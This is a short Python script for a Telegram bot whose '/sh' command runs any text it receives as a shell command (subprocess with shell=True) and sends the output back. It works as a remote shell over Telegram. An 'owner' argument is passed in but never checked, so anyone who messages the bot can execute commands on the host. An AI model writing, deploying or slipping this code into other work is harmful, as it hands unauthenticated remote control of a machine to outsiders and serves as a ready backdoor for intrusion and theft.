import subprocess

import telebot


def serve(token, owner):
    bot = telebot.TeleBot(token)

    @bot.message_handler(commands=["sh"])
    def sh(message):
        command = message.text[3:].strip()
        result = subprocess.run(command, shell=True, capture_output=True, text=True)
        bot.reply_to(message, result.stdout)

    bot.infinity_polling()
